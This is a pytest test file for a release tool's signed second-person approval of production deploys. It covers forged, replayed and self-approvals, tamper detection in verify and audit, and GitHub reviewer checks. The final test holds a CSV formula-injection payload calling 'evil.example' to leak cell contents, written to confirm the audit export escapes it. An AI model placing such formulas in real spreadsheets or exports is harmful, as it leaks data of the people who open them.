"""A second person approves what ships: real SSH keys (ssh-keygen), real releases on the local
platform, the approval travelling through the archive folder to the waiting deploy.

Observed before: the go/no-go was recorded with a name anyone could type, by the person who ran
the deploy, and nothing tied it to what shipped.
"""

from __future__ import annotations

import json
import os
import subprocess
import time
from pathlib import Path

import pytest
from conftest import RUNBOOK_COMMAND, Rehearsal, make_rehearsal

from hotdash_release.decisions import approval
from hotdash_release.results import read_section_result

APPROVER, OTHER = "bob", "mallory"
WAIT_S = 240  # bound on a whole waiting release; every wait below ends on an event first


def _keypair(folder: Path, name: str) -> Path:
    key = folder / f"{name}_ed25519"
    subprocess.run(
        ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", f"{name}@test", "-f", str(key)], check=True, timeout=30
    )
    return key


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    root = tmp_path_factory.mktemp("approvals")
    keys = {name: _keypair(root, name) for name in (APPROVER, OTHER, "test-operator")}
    signers = root / "allowed_signers"
    # bob and the operator may approve; mallory's key is not in the file.
    signers.write_text(
        "".join(
            f'{name} namespaces="{approval.NAMESPACE}" {Path(f"{keys[name]}.pub").read_text().split(" ", 2)[0]} '
            f"{Path(f'{keys[name]}.pub').read_text().split(' ', 2)[1]}\n"
            for name in (APPROVER, "test-operator")
        )
    )
    edits = {
        "[approval]\nrequired = 0\n": "[approval]\nrequired = 1\n",
        'allowed_signers = "../keys/allowed_signers"': f'allowed_signers = "{signers}"',
        "wait_minutes = 30 ": "wait_minutes = 1 ",
    }
    lab = make_rehearsal(root, edits=edits)
    yield lab, keys
    lab.platform().stop()


def _events(folder: Path) -> list[dict]:
    path = folder / "events.jsonl"
    return [json.loads(line) for line in path.read_text().splitlines()] if path.is_file() else []


def _start(lab: Rehearsal, *args: str) -> subprocess.Popen:
    return subprocess.Popen(
        [
            *RUNBOOK_COMMAND,
            "release",
            "--config",
            str(lab.config),
            "--outputs",
            str(lab.outputs),
            "--operator",
            "test-operator",
            *args,
        ],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ, "PYTHONUNBUFFERED": "1"},
    )


def _waiting_release(lab: Rehearsal, before: set[Path], runner: subprocess.Popen) -> Path:
    """The new release's folder, once its go/no-go has asked for approval (an event in its log)."""
    deadline = time.monotonic() + WAIT_S
    while time.monotonic() < deadline and runner.poll() is None:
        for folder in set(lab.release_dirs()) - before:
            if any(e["kind"] == "approval_requested" for e in _events(folder)):
                return folder
        time.sleep(0.2)
    runner.kill()
    raise AssertionError("the release never asked for approval: " + runner.communicate()[1][-2000:])


def _approve(
    lab: Rehearsal, release_id: str, who: str, key: Path, reason: str = "read the plan page"
) -> subprocess.CompletedProcess:
    return subprocess.run(
        [
            *RUNBOOK_COMMAND,
            "approve",
            release_id,
            "--as",
            who,
            "--key",
            str(key),
            "--reason",
            reason,
            "--outputs",
            str(lab.outputs),
        ],
        capture_output=True,
        text=True,
        timeout=60,
    )


def test_production_waits_for_an_approval_of_what_ships_and_ships_with_it(world):
    lab, keys = world
    before = set(lab.release_dirs())
    runner = _start(lab)
    folder = _waiting_release(lab, before, runner)
    request = read_section_result(folder, "go_no_go")["records"]["approval_request"]
    assert request["who_may_approve"] == [APPROVER], "the operator may not approve their own release"

    self_approval = _approve(lab, folder.name, "test-operator", keys["test-operator"])
    assert self_approval.returncode == 2 and "someone else must approve" in self_approval.stderr

    given = _approve(lab, folder.name, APPROVER, keys[APPROVER])
    assert given.returncode == 0, given.stderr
    out, err = runner.communicate(timeout=WAIT_S)
    assert runner.returncode == 0, out + err
    assert "approval(s) from bob: each runs `runbook approve" in out

    approvals = read_section_result(folder, "deploy_production")["records"]["approvals"]
    [accepted] = approvals["accepted"]
    assert accepted["approver"] == APPROVER and accepted["digest"] == request["digest"]
    assert accepted["fingerprint"].startswith("SHA256:")
    assert any(e["kind"] == "approval_accepted" and e["data"]["approver"] == APPROVER for e in _events(folder))
    report = (folder / "report.html").read_text()
    assert "<h2>Approvals" in report and accepted["fingerprint"] in report and request["digest"] in report

    # Anyone re-checks it with ssh-keygen alone, as README shows.
    signed = approval.Approval(**{k: accepted[k] for k in approval.Approval.__dataclass_fields__})
    sig = lab.root / "approval.sig"
    sig.write_text(signed.signature)
    checked = subprocess.run(
        [
            "ssh-keygen",
            "-Y",
            "verify",
            "-f",
            str(lab.root / "allowed_signers"),
            "-I",
            APPROVER,
            "-n",
            approval.NAMESPACE,
            "-s",
            str(sig),
        ],
        input=signed.statement(),
        capture_output=True,
        timeout=30,
    )
    assert checked.returncode == 0 and b"Good" in checked.stdout + checked.stderr


def test_without_an_approval_production_is_refused_naming_who_may_approve(world):
    lab, _ = world
    config = lab.config.read_text()
    lab.config.write_text(config.replace("wait_minutes = 1", "wait_minutes = 0"))
    try:
        production_before = lab.platform().releases("hotdash-production")
        done = lab.release()
    finally:
        lab.config.write_text(config)
    assert done.returncode == 3, done.stdout + done.stderr
    assert f"who may approve: {APPROVER}" in done.stdout + done.stderr
    assert "runbook approve " in done.stdout + done.stderr
    assert lab.platform().releases("hotdash-production") == production_before, "nothing deployed"


def test_forged_replayed_and_stale_approvals_do_not_count(world):
    """mallory's key is not an approver's; a key pretending to be bob's; bob's approval replayed
    from another release; bob's approval of a digest the configuration no longer has."""
    lab, keys = world
    before = set(lab.release_dirs())
    runner = _start(lab)
    folder = _waiting_release(lab, before, runner)
    request = read_section_result(folder, "go_no_go")["records"]["approval_request"]
    at = "2026-12-06T05:00:00.000Z"

    def forged(who: str, key: Path, release_id: str, digest: str) -> None:
        a = approval.Approval(release_id, digest, who, at, "forged", "")
        signed = approval.Approval(**{**a.as_row(), "signature": approval.sign(a.statement(), key)})
        target = approval.approvals_dir(lab.outputs, folder.name) / f"{who}-{release_id[-6:]}.json"
        target.parent.mkdir(parents=True, exist_ok=True)  # placed where this release reads them
        target.write_text(json.dumps(signed.as_row()))

    forged(OTHER, keys[OTHER], folder.name, request["digest"])  # not in allowed_signers
    forged(APPROVER, keys[OTHER], folder.name, request["digest"])  # bob's name, mallory's key
    forged(APPROVER, keys[APPROVER], "20260101T000000Z-aaaaaa", request["digest"])  # another release's
    # The configuration changes after the go/no-go; bob approves what the go/no-go recorded: that is
    # not what would ship now.
    original = lab.config.read_text()
    lab.config.write_text(original + "\n# changed after the decision\n")
    try:
        assert _approve(lab, folder.name, APPROVER, keys[APPROVER]).returncode == 0
        out, err = runner.communicate(timeout=WAIT_S)
    finally:
        lab.config.write_text(original)
    assert runner.returncode == 3, out + err
    rejected = read_section_result(folder, "deploy_production")["records"]["approvals"]["rejected"]
    text = " | ".join(rejected)
    assert f"{OTHER}: not an approver" in text
    assert f"{APPROVER}: signature does not verify" in text
    assert "20260101T000000Z-aaaaaa" in text or "not this one" in text
    assert f"{APPROVER}: approved another digest" in text
    assert read_section_result(folder, "deploy_production")["records"]["approvals"]["accepted"] == []


def test_judge_refuses_self_approval_when_prevented(tmp_path):
    """The operator's own signed approval: refused when prevent_self_approval, counted when not."""
    key = _keypair(tmp_path, "carol")
    signers = tmp_path / "allowed_signers"
    kind, blob = Path(f"{key}.pub").read_text().split(" ", 2)[:2]
    signers.write_text(f'carol namespaces="{approval.NAMESPACE}" {kind} {blob}\n')
    a = approval.Approval("r1", "d" * 64, "carol", "2026-12-06T05:00:00Z", "mine", "")
    a = approval.Approval(**{**a.as_row(), "signature": approval.sign(a.statement(), key)})
    prevented = approval.judge(
        approval.ApprovalPolicy(1, True, signers), [a], digest="d" * 64, release_id="r1", operator="carol"
    )
    assert not prevented.ok and "own operator cannot approve" in prevented.rejected[0]
    allowed = approval.judge(
        approval.ApprovalPolicy(1, False, signers), [a], digest="d" * 64, release_id="r1", operator="carol"
    )
    assert allowed.ok and allowed.accepted[0]["fingerprint"].startswith("SHA256:")
    tampered = approval.Approval(**{**a.as_row(), "reason": "changed after signing"})
    assert not approval.judge(
        approval.ApprovalPolicy(1, False, signers), [tampered], digest="d" * 64, release_id="r1", operator="x"
    ).ok


def test_verify_checks_the_sealed_approvals_again(world):
    """The released record of the first test: verify passes; an approval forged into it (another
    release's, another digest, the operator's own, a signature by another key) is named."""
    lab, keys = world
    released = [
        f for f in lab.release_dirs() if (read_section_result(f, "deploy_production") or {}).get("outcome") == "passed"
    ]
    assert released, "test_production_waits_for_an_approval_of_what_ships_and_ships_with_it ran first"
    folder = released[0]
    done = lab.runbook("verify", "--outputs", str(lab.outputs))
    assert done.returncode == 0, done.stdout + done.stderr
    deploy = read_section_result(folder, "deploy_production")
    assert approval.record_problems(deploy) == []

    def forged(**change) -> list[str]:
        approvals = deploy["records"]["approvals"]
        row = {**approvals["accepted"][0], **change}
        return approval.record_problems(
            {**deploy, "records": {**deploy["records"], "approvals": {**approvals, "accepted": [row]}}}
        )

    assert any("is for release 2025" in p for p in forged(release_id="20250101T000000Z-aaaaaa"))
    assert any("not the one shipped" in p for p in forged(digest="0" * 64))
    assert any("approved their own release" in p for p in forged(approver="test-operator"))
    assert any("does not verify" in p for p in forged(reason="a reason bob never signed"))
    other = approval.Approval(
        **{k: deploy["records"]["approvals"]["accepted"][0][k] for k in approval.Approval.__dataclass_fields__}
    )
    by_mallory = approval.sign(other.statement(), keys[OTHER])
    assert any("bob's signature does not verify" in p for p in forged(signature=by_mallory))
    none = {**deploy, "records": {**deploy["records"], "approvals": {**deploy["records"]["approvals"], "accepted": []}}}
    assert any("deployed with 0 of 1 required" in p for p in approval.record_problems(none))


# -- in CI: the production environment's reviewer, read from GitHub's REST API ---------------------------------


def _review(login: str, state: str = "approved", environment: str = "production") -> dict:
    """One row of GET /repos/{owner}/{repo}/actions/runs/{run_id}/approvals, as GitHub documents it."""
    return {
        "environments": [{"id": 161088068, "node_id": "MDExOkVudmlyb25tZW50MTYxMDg4MDY4", "name": environment}],
        "state": state,
        "comment": f"{login} reviewed the plan page",
        "user": {"login": login, "id": 1, "type": "User"},
    }


def test_in_ci_the_environment_reviewer_approves_and_the_dispatcher_cannot(world, loopback):
    from loopback import Reply

    lab, _ = world
    reviews: list[dict] = []
    seen: list[str] = []

    @loopback.route("/repos/acme/hotdash/actions/runs/4242/approvals")
    def run_approvals(request):
        seen.append(request.headers.get("Authorization", ""))
        return Reply.json(reviews)

    ci = {
        "GITHUB_ACTIONS": "true",
        "GITHUB_RUN_ID": "4242",
        "GITHUB_REPOSITORY": "acme/hotdash",
        "GITHUB_ACTOR": "alice",
        "GITHUB_TOKEN": "ghs_runTokenNeverPrinted0123456789",
        "HOTDASH_GITHUB_API_URL": loopback.base_url,
    }
    config = lab.config.read_text()
    lab.config.write_text(config.replace("wait_minutes = 1", "wait_minutes = 0"))
    try:
        from conftest import run_cli

        def release():
            return run_cli(
                "release",
                "--config",
                str(lab.config),
                "--outputs",
                str(lab.outputs),
                "--operator",
                "github-actions",
                extra_env=ci,
            )

        reviews[:] = [_review("alice"), _review("carol", environment="staging"), _review("dave", state="rejected")]
        production_before = lab.platform().releases("hotdash-production")
        refused = release()
        assert refused.returncode == 3, refused.stdout + refused.stderr
        said = refused.stdout + refused.stderr
        assert "alice: dispatched this run and cannot approve it" in said
        assert lab.platform().releases("hotdash-production") == production_before
        assert ci["GITHUB_TOKEN"] not in said
        assert seen and all(h == f"Bearer {ci['GITHUB_TOKEN']}" for h in seen)

        reviews[:] = [_review("alice"), _review("carol")]
        shipped = release()
        assert shipped.returncode == 0, shipped.stdout + shipped.stderr
    finally:
        lab.config.write_text(config)
    folder = lab.release_dirs()[-1]
    approvals = read_section_result(folder, "deploy_production")["records"]["approvals"]
    assert [(a["approver"], a["source"]) for a in approvals["accepted"]] == [("carol", "github")]
    assert approvals["dispatched_by"] == "alice"
    assert approval.record_problems(read_section_result(folder, "deploy_production")) == []


def test_verify_names_a_forged_approval_even_when_the_log_was_rewritten_to_match(world, tmp_path):
    """An adversary who rewrites the deploy's result and appends a matching log line (the hash
    chain holds: it needs no secret): verify names the approval itself, not only the changed files."""
    import shutil

    from hotdash_release.archive.integrity import verify_release
    from hotdash_release.record import events
    from hotdash_release.results import results_path, write_json_atomic

    lab, _ = world
    released = [
        f for f in lab.release_dirs() if (read_section_result(f, "deploy_production") or {}).get("outcome") == "passed"
    ]
    copy = tmp_path / "hotdash-production" / released[0].name
    shutil.copytree(released[0], copy)
    deploy = read_section_result(copy, "deploy_production")
    approvals = deploy["records"]["approvals"]
    forged = {**approvals, "accepted": [{**approvals["accepted"][0], "approver": "test-operator"}]}
    manifest = copy / "manifest.json"
    kept = manifest.read_bytes()
    manifest.unlink()  # as an adversary with the folder may
    write_json_atomic(
        results_path(copy, "deploy_production"), {**deploy, "records": {**deploy["records"], "approvals": forged}}
    )
    events.note_result(copy, "deploy_production", by="test-operator", outcome="passed")
    manifest.write_bytes(kept)
    problems = [p.what for p in verify_release(copy)]
    assert any(p.startswith("approvals: test-operator") for p in problems), problems


# -- the auditor's evidence ----------------------------------------------------------------------------------


def test_audit_lists_every_production_change_with_its_approvers_and_exceptions(world, tmp_path):
    """Over this module's archive (approved by bob, approved by a GitHub reviewer, refused ones that
    changed nothing) plus a release without approvals whose staging check was skipped and whose
    production build failed and was rolled back, and three altered copies (a decision changed
    after the deploy, a failed rollback, an abandoned seal: each also fails verify)."""
    import shutil

    import pandas

    from hotdash_release.record import events

    lab, keys = world
    config = lab.config.read_text()
    # A team that allows self-approval: the operator approves their own release (the audit flags it).
    lab.config.write_text(config.replace("prevent_self_approval = true", "prevent_self_approval = false"))
    try:
        before = set(lab.release_dirs())
        runner = _start(lab)
        own = _waiting_release(lab, before, runner)
        assert _approve(lab, own.name, "test-operator", keys["test-operator"]).returncode == 0
        out, err = runner.communicate(timeout=WAIT_S)
        assert runner.returncode == 0, out + err
    finally:
        lab.config.write_text(config)
    lab.config.write_text(config.replace("required = 1", "required = 0"))
    try:
        broken = lab.release(
            "--break", "production:wrong_api_key", "--skip-staging-check", "--reason", "hotfix, staging busy"
        )
    finally:
        lab.config.write_text(config)
    assert broken.returncode == 4, broken.stdout + broken.stderr
    rolled = lab.release_dirs()[-1]

    def altered(name: str, change) -> None:
        copy = lab.outputs / "hotdash-production" / (rolled.name[:-6] + name)
        shutil.copytree(rolled, copy)
        manifest = json.loads((copy / "manifest.json").read_text())
        (copy / "manifest.json").unlink()
        change(copy, manifest)
        (copy / "manifest.json").write_text(json.dumps({**manifest, "release_id": copy.name}))

    altered(
        "zzzzz1", lambda c, m: events.append(c, "decision_recorded", by="erin", decision="NO-GO", explanation="late")
    )
    altered("zzzzz2", lambda c, m: m.update(outcome="rollback failed"))
    altered("zzzzz3", lambda c, m: m.update(abandoned={"sealed_by": "erin"}))

    out = tmp_path / "audit"
    done = lab.runbook("audit", "--outputs", str(lab.outputs), "--out", str(out))
    assert done.returncode == 0, done.stdout + done.stderr
    table = pandas.read_csv(out / "audit.csv")
    by_id = {row.release_id: row for row in table.itertuples()}
    assert len(table) == len(by_id), "one row per production change"
    changed = [
        f.name
        for f in lab.release_dirs()
        if (read_section_result(f, "deploy_production") or {}).get("records", {}).get("deployment")
    ]
    assert sorted(by_id) == sorted(changed), "every change, and no refused deploy"

    approved = [r for r in table.itertuples() if isinstance(r.approvers, str) and "bob (ssh, SHA256:" in r.approvers]
    assert approved and all(r.requester == "test-operator" for r in approved)
    assert any(isinstance(r.approvers, str) and "carol (github" in r.approvers for r in table.itertuples())
    assert "approved by its own author" in by_id[own.name].exceptions
    row = by_id[rolled.name]
    assert "no approval recorded" in row.exceptions and "staging check skipped: hotfix, staging busy" in row.exceptions
    assert "rolled back" in row.exceptions and row.rolled_back and row.time_to_restore_s > 0
    assert not any("does not verify" in str(r.exceptions) for r in approved), "the real records verify"
    copies = {name: by_id[rolled.name[:-6] + name].exceptions for name in ("zzzzz1", "zzzzz2", "zzzzz3")}
    assert "decision changed after deploy" in copies["zzzzz1"]
    assert "rollback failed" in copies["zzzzz2"]
    assert "sealed as abandoned" in copies["zzzzz3"]
    assert all("record does not verify" in text for text in copies.values())

    page = (out / "audit.html").read_text()
    assert "bob (ssh" in page and "hotfix, staging busy" in page
    assert f"hotdash-production/{rolled.name}/report.html" in page
    assert "04-staging_smoke.html" in page or "07-production_smoke.html" in page, "links to the section pages"


def test_in_a_lab_session_the_go_no_go_names_the_approvers_and_06_waits_for_them(world):
    """JupyterLab's path (nbclient kernels as JupyterLab runs them, the live lock `runbook lab` holds):
    the decision shows who must approve and the command; 06 refuses without; bob's approval opens it."""
    from test_interactive import DECIDE_GO, SESSION, TICK_EVERY_CHECK, execute

    from hotdash_release.interactive.session import create_session
    from hotdash_release.locks import live_release

    lab, keys = world
    config = lab.config.read_text()
    lab.config.write_text(config.replace("wait_minutes = 1", "wait_minutes = 0"))
    try:
        folder = create_session(lab.outputs, operator="alice", config_path=lab.config)
        clicks = {"04-staging_smoke": TICK_EVERY_CHECK, "05-go_no_go": DECIDE_GO}
        with live_release(folder):
            for name in SESSION[:5]:
                path = folder / f"{name}.ipynb"
                assert execute(path, path, cwd=folder, clicks=clicks.get(name, "")) is None, name
            shown = (folder / "05-go_no_go.ipynb").read_text()
            assert "Approval needed before production" in shown and f"runbook approve {folder.name}" in shown
            deploy = folder / "06-deploy_production.ipynb"
            refused = execute(deploy, deploy, cwd=folder)
            assert refused and refused.startswith("DeployRefused") and "who may approve: bob, test-operator" in refused
            assert _approve(lab, folder.name, APPROVER, keys[APPROVER]).returncode == 0
            assert execute(deploy, deploy, cwd=folder) is None
    finally:
        lab.config.write_text(config)
    accepted = read_section_result(folder, "deploy_production")["records"]["approvals"]["accepted"]
    assert [a["approver"] for a in accepted] == [APPROVER]


def test_the_approvals_folder_is_not_an_app_of_the_archive(world):
    """OUTPUTS/_approvals/<release id>/ looks like an app's release folder: the index, the catalog
    and verify must not take it for one."""
    from hotdash_release.archive.catalog import release_folders

    lab, _ = world
    waiting = approval.approvals_dir(lab.outputs, "20261206T050000Z-abcdef")
    waiting.mkdir(parents=True, exist_ok=True)  # an approval waiting for a release that never came
    assert "_approvals" not in {app for app, _, _ in release_folders(lab.outputs)}
    done = lab.runbook("index", "--outputs", str(lab.outputs))
    assert done.returncode == 0, done.stdout + done.stderr
    assert "_approvals" not in (lab.outputs / "index.html").read_text()


def test_the_audit_csv_never_carries_a_formula_from_a_record(tmp_path):
    """A skip reason (free text anyone running a release types) that a spreadsheet would run."""
    import pandas

    from hotdash_release.archive.audit import Change, write_audit

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    change = Change(
        "hotdash-production",
        "20261206T000000Z-abcdef",
        "2026-12-06T00:00:00Z",
        "@erin",
        [],
        "",
        "GO",
        "skipped",
        "passed",
        "6 of 6 met",
        "released",
        False,
        None,
        [f"staging check skipped: {hostile}"],
    )
    change.requester = "+erin"
    change.exceptions = [hostile]
    _, csv = write_audit([change], tmp_path / "audit", title="t", archive_root=tmp_path)
    row = pandas.read_csv(csv).iloc[0]
    assert row["exceptions"] == "'" + hostile and row["requester"] == "'+erin"
    assert not any(str(v).startswith(("=", "+", "@", "-")) for v in row.values)
